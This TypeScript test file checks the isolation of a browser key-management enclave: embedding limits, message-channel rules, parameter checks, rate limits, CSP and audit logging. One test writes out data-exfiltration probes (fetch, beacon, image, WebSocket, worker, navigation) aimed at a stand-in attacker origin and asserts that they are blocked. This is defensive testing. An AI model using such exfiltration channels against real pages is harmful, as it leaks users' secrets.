// The channel: who may open it, and what may pass over it.

import assert from "node:assert/strict";
import { until } from "../engines/engine.ts";
import { bytes } from "../host.ts";
import { record } from "../verify.ts";
import type { Case } from "./case.ts";

export const channel: readonly Case[] = [
  {
    name: "a page on another origin cannot embed it",
    run: async stage => {
      await stage.fresh();
      const host = await stage.bare();
      await host.tab.goto(`${stage.origins.evil}/`);
      const url = `${stage.origins.kms}/kms.html`;
      assert.equal((await host.boot({ url, timeout: stage.absence })).ready, false);
    },
  },
  {
    name: "a page cannot embed it through an allowed host",
    run: async stage => {
      const host = await stage.bare();
      await host.tab.goto(`${stage.origins.evil}/`);
      await host.boot({ url: `${stage.origins.app}/`, patience: 0 });
      // The inner host page starts the enclave. It must not become ready, because its grandparent is not on the list.
      const inner = await host.tab.run<boolean>(
        `boot => new Promise(resolve => {
          addEventListener("message", event => { if ("booted" in Object(event.data)) resolve(event.data.booted); });
          // Repeats until the inner page receives the message.
          setInterval(() => host.frame.contentWindow.postMessage({ boot }, "*"), 100);
        })`,
        { url: `${stage.origins.kms}/kms.html`, timeout: stage.absence },
      );
      assert.equal(inner, false);
    },
  },
  {
    name: "it does not start without its own origin",
    run: async stage => {
      const host = await stage.fresh();
      const url = `${stage.origins.kms}/kms.html`;
      const answer = await host.boot({ url, sandbox: "allow-scripts", timeout: stage.absence });
      assert.equal(answer.ready, false);
    },
  },
  {
    name: "the channel opens once: a second open message and other messages to the window have no effect",
    run: async stage => {
      const host = await stage.fresh();
      await host.generate("ES256", "signing");
      const heard = await host.tab.run<number>(
        `async origin => {
        const frame = host.frame.contentWindow;
        let heard = 0;
        for (const message of [{ briefcase: "open", storage: "disk" }, { id: 1, method: "list", params: {} }]) {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = () => { heard += 1; };
          frame.postMessage(message, origin, [port2]);
          port1.postMessage({ id: 1, method: "list", params: {} });
        }
        addEventListener("message", event => { if (event.source === frame && event.data?.briefcase !== "ready") heard += 1; });
        await host.call("list");
        await new Promise(resolve => setTimeout(resolve, 500));
        return heard;
      }`,
        stage.origins.kms,
      );
      assert.equal(heard, 0);
    },
  },
  {
    name: "an open message counts only from the parent",
    run: async stage => {
      const host = await stage.fresh();
      await host.tab.goto(`${stage.origins.app}/`);
      const answers = await host.tab.run<{ fake: boolean; real: boolean }>(
        `async ({ url, origin, app, absence }) => {
        // A second page of the host's origin: the right origin, the wrong source.
        const sibling = document.createElement("iframe");
        const loaded = new Promise(resolve => { sibling.onload = resolve; });
        sibling.src = app;
        const frame = document.createElement("iframe");
        frame.setAttribute("sandbox", "allow-scripts allow-same-origin");
        const ready = new Promise(resolve => addEventListener("message", event => {
          if (event.source === frame.contentWindow && event.data?.briefcase === "ready") resolve();
        }));
        frame.src = url;
        document.querySelector("#frames").replaceChildren(sibling, frame);
        await ready;
        const open = (source, timeout) => new Promise(resolve => {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = () => resolve(true);
          source(port2);
          port1.postMessage({ id: 1, method: "version", params: {} });
          setTimeout(() => resolve(false), timeout);
        });
        const message = { briefcase: "open", storage: "memory" };
        // The source of a message is the window whose code calls postMessage.
        await loaded;
        const fake = await open(port => sibling.contentWindow.post(frame.contentWindow, message, origin, port), absence);
        const real = await open(port => frame.contentWindow.postMessage(message, origin, [port]), 60_000);
        return { fake, real };
      }`,
        {
          url: `${stage.origins.kms}/kms.html`,
          origin: stage.origins.kms,
          app: `${stage.origins.app}/same.html`,
          absence: stage.absence,
        },
      );
      assert.deepEqual(answers, { fake: false, real: true });
    },
  },
  {
    name: "every response is plain data",
    run: async stage => {
      const host = await stage.fresh();
      const { kid } = await host.generate("ES256", "signing");
      const all = [
        await host.ask("generate", { alg: "X25519", purpose: "agreement" }),
        await host.ask("generate", { alg: "Ed25519", purpose: "identity" }),
        await host.ask("list"),
        await host.ask("audit"),
        await host.ask("status"),
        await host.ask("publicKey", { kid, format: "jwk" }),
        await host.ask("sign", { kid, bytes: bytes("x") }),
        await host.ask("rotate", { kid }),
      ];
      const text = JSON.stringify(all);
      assert.ok(!text.includes("$odd"), text);
      assert.ok(!/"(d|secret|privateKey|custody|key)":/.test(text), text);
      assert.deepEqual(await host.tab.run("() => host.odd"), []);
    },
  },
  {
    name: "key objects and other non-data are rejected as parameters",
    run: async stage => {
      const host = await stage.fresh();
      const { kid } = await host.generate("ES256", "signing");
      const codes = await host.tab.run<readonly string[]>(
        `async kid => {
        const pair = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, false, ["sign", "verify"]);
        const odd = [pair.privateKey, new Map([["kid", kid]]), new Date(), new Uint8Array(3), [1], null, "x", 7];
        const codes = [];
        for (const bytes of odd) codes.push((await host.send("sign", { kid, bytes })).error.code);
        for (const params of odd) codes.push((await host.send("sign", params)).error.code);
        codes.push((await host.send("sign", { kid, bytes: new ArrayBuffer(1), key: pair.privateKey })).error.code);
        return codes;
      }`,
        kid,
      );
      assert.equal(codes.length, 17);
      assert.deepEqual(new Set(codes), new Set(["bad_params"]));
    },
  },
  {
    name: "a flood of requests is refused and does not block later requests",
    run: async stage => {
      const host = await stage.fresh();
      const { kid } = await host.generate("Ed25519", "signing");
      const codes = await host.tab.run<Record<string, number>>(
        `async kid => {
        const calls = Array.from({ length: 200 }, () => host.send("sign", { kid, bytes: new ArrayBuffer(8) }));
        const counts = {};
        for (const answer of await Promise.all(calls)) {
          const code = answer.error?.code ?? "ok";
          counts[code] = (counts[code] ?? 0) + 1;
        }
        return counts;
      }`,
        kid,
      );
      assert.equal((codes["ok"] ?? 0) + (codes["too_many"] ?? 0), 200);
      assert.ok((codes["ok"] ?? 0) >= 64 && (codes["too_many"] ?? 0) > 0, JSON.stringify(codes));
      await host.call("sign", { kid, bytes: bytes("after") });
      await host.refused("too_large", "sign", { kid, bytes: bytes(Buffer.alloc((1 << 20) + 1)) });
    },
  },
  {
    name: "no data leaves through the network or navigation",
    run: async stage => {
      const host = await stage.fresh();
      const { attacker, stolen } = stage.world;
      stolen.length = 0;
      const tried = await host.tab.inFrame<readonly string[]>(
        `async attacker => {
        const out = [];
        await fetch(attacker + "/fetch", { mode: "no-cors" }).then(() => out.push("fetch"), () => undefined);
        try { navigator.sendBeacon(attacker + "/beacon", "x"); } catch {}
        try { new Image().src = attacker + "/image"; } catch {}
        try { new WebSocket(attacker.replace("http", "ws") + "/socket"); } catch {}
        const code = "fetch(" + JSON.stringify(attacker + "/worker") + ").then(() => postMessage('out'), () => postMessage('blocked'))";
        let worker;
        try { worker = new Worker(URL.createObjectURL(new Blob([code]))); } catch {}
        if (worker !== undefined) out.push("an untrusted worker started");
        // A debugger's own code may use eval; later calls of the page may not.
        await new Promise(resolve => setTimeout(() => { try { eval("1"); out.push("eval"); } catch {} resolve(); }, 0));
        try { document.body.innerHTML = "<b>x</b>"; out.push("innerHTML"); } catch {}
        await new Promise(resolve => setTimeout(resolve, 500));
        return out;
      }`,
        attacker,
      );
      assert.deepEqual(tried, []);
      await host.tab.inFrame(
        `attacker => { setTimeout(() => { location.href = attacker + "/navigated"; }, 0); }`,
        attacker,
      );
      await host.tab.run("() => new Promise(resolve => setTimeout(resolve, 1500))");
      assert.deepEqual(stolen, []);
      assert.equal((await fetch(`${attacker}/works`)).ok, true);
      assert.deepEqual(stolen, ["/works"], "the attacker does hear what reaches it");
    },
  },
  {
    name: "the host's required policy: Chromium enforces it, other engines ignore it",
    run: async stage => {
      const host = await stage.fresh();
      const policy = (await stage.world.policy())
        .split("; ")
        .filter(part => !part.startsWith("frame-ancestors"))
        .join("; ");
      assert.equal((await host.load({ csp: policy })).ready, true);
      const { integrity } = /'(?<integrity>sha256-[^']+)'/.exec(policy)?.groups ?? {};
      assert.ok(integrity);
      const other = policy.replace(integrity, `sha256-${"A".repeat(43)}=`);
      const url = `${stage.origins.kms}/kms.html`;
      const timeout = stage.engine.name === "chromium" ? stage.absence : 60_000;
      const { ready } = await host.boot({ url, csp: other, timeout });
      assert.equal(ready, stage.engine.name !== "chromium");
    },
  },
  {
    name: "refusals are in the audit log too",
    run: async stage => {
      const host = await stage.fresh();
      const { kid } = await host.generate("ES256", "signing");
      await host.refused("unknown_method", "exportKey", { kid });
      await host.refused("bad_params", "sign", { kid });
      await host.refused("wrong_purpose", "vapidHeaders", {
        kid,
        aud: "https://push.example",
        sub: "mailto:a@b.example",
      });
      const entries = await record(host);
      const refused = entries.filter(entry => entry.outcome === "refused");
      assert.deepEqual(
        refused.map(entry => [entry.method, entry.detail["code"]]),
        [
          ["unknown", "unknown_method"],
          ["sign", "bad_params"],
          ["vapidHeaders", "wrong_purpose"],
        ],
      );
      assert.deepEqual(
        entries.slice(0, 2).map(entry => [entry.method, entry.outcome]),
        [
          ["start", "done"],
          ["generate", "done"],
        ],
      );
      await until("the record is stable", async () => (await record(host)).length === entries.length);
    },
  },
];
